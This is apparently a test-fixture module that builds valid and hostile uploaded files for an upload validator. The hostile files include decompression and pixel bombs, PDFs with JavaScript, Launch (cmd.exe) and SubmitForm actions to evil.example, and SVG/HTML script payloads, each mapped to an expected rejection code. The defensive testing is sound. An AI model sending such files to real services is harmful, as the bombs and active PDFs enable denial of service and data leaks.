"""Submitted files, valid and hostile, generated here and stored nowhere."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO

import pikepdf
from PIL import Image, PngImagePlugin

SIZE = (60, 40)


def picture(
    kind: str = "JPEG", *, size: tuple[int, int] = SIZE, mode: str = "RGB", shade: int = 0, **save
) -> bytes:
    """Return a picture; `shade` makes another one."""
    file = BytesIO()
    Image.new(mode, size, 50 * shade).save(file, kind, **save)
    return file.getvalue()


def noise(width: int = 600) -> bytes:
    """Return a picture that can't be compressed well."""
    file = BytesIO()
    Image.effect_noise((width, width), 90).save(file, "PNG")
    return file.getvalue()


def pdf(*, catalog: dict | None = None, page: dict | None = None, **save) -> bytes:
    """Return a PDF of one page; `catalog` and `page` are added to these dictionaries."""
    file = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page(page_size=(200, 100))
        for key, value in (catalog or {}).items():
            document.Root[key] = document.make_indirect(value) if isinstance(value, pikepdf.Stream) else value
        for key, value in (page or {}).items():
            document.pages[0].obj[key] = value
        document.save(file, **save)
    return file.getvalue()


def action(**entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(**entries)


def with_attachment() -> bytes:
    file = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["virus.exe"] = pikepdf.AttachedFileSpec(document, b"MZ", filename="virus.exe")
        document.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return file.getvalue()


def with_exif() -> bytes:
    """Return a photo taken upside down, with a place and a name in it."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x8825] = 6, "SECRET-PHONE", {1: "N", 2: (31.0, 12.0, 0.0)}
    return picture(exif=exif, comment=b"SECRET-COMMENT")


def png_with_text() -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "SECRET-AUTHOR")
    text.add_itxt("XML:com.adobe.xmp", "SECRET-XMP")
    return picture("PNG", pnginfo=text, icc_profile=b"SECRET-PROFILE")


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """Return a small PNG that claims to be `width` by `height`."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = zlib.compress(data or b"\0" * 100)
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def unpacks_to(size: int) -> bytes:
    """Return a few kilobytes that unpack to `size` bytes."""
    packer, part = zlib.compressobj(9), b"9 " * 500_000
    return b"".join(packer.compress(part) for _ in range(size // len(part))) + packer.flush()


def png_text_bomb() -> bytes:
    """Return a PNG whose text chunk unpacks to 300 MB."""
    good = picture("PNG")
    bomb = chunk(b"zTXt", b"a\0\0" + unpacks_to(300_000_000))
    return good[:33] + bomb + good[33:]


def pdf_of(*objects: bytes) -> bytes:
    """Return a PDF of these objects as they are; the first is its catalog."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    tail = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
    return bytes(out) + tail % (len(objects) + 1, start)


PAGES = (b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")


def object_stream_bomb() -> bytes:
    packed = unpacks_to(800_000_000)
    stream = b"<</Type/ObjStm/N 9999999/First 10/Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream"
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", *PAGES, stream % (len(packed), packed))


JS = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"}
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "svg": (lambda: SVG, "DOCUMENT_FORMAT"),
    "html": (lambda: HTML, "DOCUMENT_FORMAT"),
    "html before a pdf": (lambda: HTML + pdf(), "DOCUMENT_FORMAT"),
    "gif": (lambda: picture("GIF", mode="P"), "DOCUMENT_FORMAT"),
    "tiff": (lambda: picture("TIFF"), "DOCUMENT_FORMAT"),
    "program": (lambda: b"MZ\x90\0" + b"\0" * 200, "DOCUMENT_FORMAT"),
    "zip": (lambda: b"PK\x03\x04" + b"\0" * 200, "DOCUMENT_FORMAT"),
    "heic": (lambda: b"\0\0\0\x18ftypheic" + b"\0" * 200, "DOCUMENT_HEIC"),
    "empty": (lambda: b"", "DOCUMENT_EMPTY"),
    "half a jpeg": (lambda: picture(size=(400, 400))[:400], "DOCUMENT_UNREADABLE"),
    "jpeg in name": (lambda: b"\xff\xd8\xff\xe0" + HTML * 30, "DOCUMENT_UNREADABLE"),
    "png in name": (lambda: b"\x89PNG\r\n\x1a\n" + SVG * 30, "DOCUMENT_UNREADABLE"),
    "webp in name": (lambda: b"RIFF\x20\0\0\0WEBPVP8X" + HTML, "DOCUMENT_UNREADABLE"),
    "pixel bomb": (lambda: png_of(50_000, 50_000), "DOCUMENT_PIXELS"),
    "text bomb": (png_text_bomb, "DOCUMENT_UNREADABLE"),
    "pdf script": (lambda: pdf(catalog={"/OpenAction": action(**JS)}), "DOCUMENT_ACTIVE"),
    "pdf script of a page": (lambda: pdf(page={"/AA": action(O=action(**JS))}), "DOCUMENT_ACTIVE"),
    "pdf script in a name tree": (
        lambda: pdf(catalog={"/Names": action(JavaScript=action(Names=pikepdf.Array([])))}),
        "DOCUMENT_ACTIVE",
    ),
    "pdf script, packed": (
        lambda: pdf(
            catalog={"/OpenAction": action(**JS)}, object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        "DOCUMENT_ACTIVE",
    ),
    "pdf script, spelled oddly": (
        lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(1)>>>>", *PAGES),
        "DOCUMENT_ACTIVE",
    ),
    "pdf launch": (
        lambda: pdf(catalog={"/OpenAction": action(S=pikepdf.Name.Launch, F="cmd.exe")}),
        "DOCUMENT_ACTIVE",
    ),
    "pdf attachment": (with_attachment, "DOCUMENT_ACTIVE"),
    "pdf form": (
        lambda: pdf(catalog={"/AcroForm": action(XFA=pikepdf.String("x"))}),
        "DOCUMENT_ACTIVE",
    ),
    "pdf sends itself": (
        lambda: pdf(catalog={"/OpenAction": action(S=pikepdf.Name.SubmitForm, F="http://evil.example")}),
        "DOCUMENT_ACTIVE",
    ),
    "pdf with a password": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "DOCUMENT_ENCRYPTED",
    ),
    "pdf that may not be printed": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
        "DOCUMENT_ENCRYPTED",
    ),
    "pdf before a zip": (lambda: pdf() + b"PK\x03\x04" + b"\0" * 2000, "DOCUMENT_UNREADABLE"),
    "pdf before a page": (lambda: pdf() + HTML, "DOCUMENT_UNREADABLE"),
    "pdf without pages": (lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]>>"), "DOCUMENT_UNREADABLE"),
    "pdf pages in a circle": (
        lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "DOCUMENT_UNREADABLE",
    ),
    "pdf nested deeply": (
        lambda: pdf_of(b"<</Type/Catalog/Pages 2 0 R/X %s>>" % (b"[" * 90_000 + b"]" * 90_000), *PAGES),
        "DOCUMENT_UNREADABLE",
    ),
    "pdf in name": (lambda: b"%PDF-1.7\n" + HTML * 40 + b"\n%%EOF", "DOCUMENT_UNREADABLE"),
}  # fmt: skip
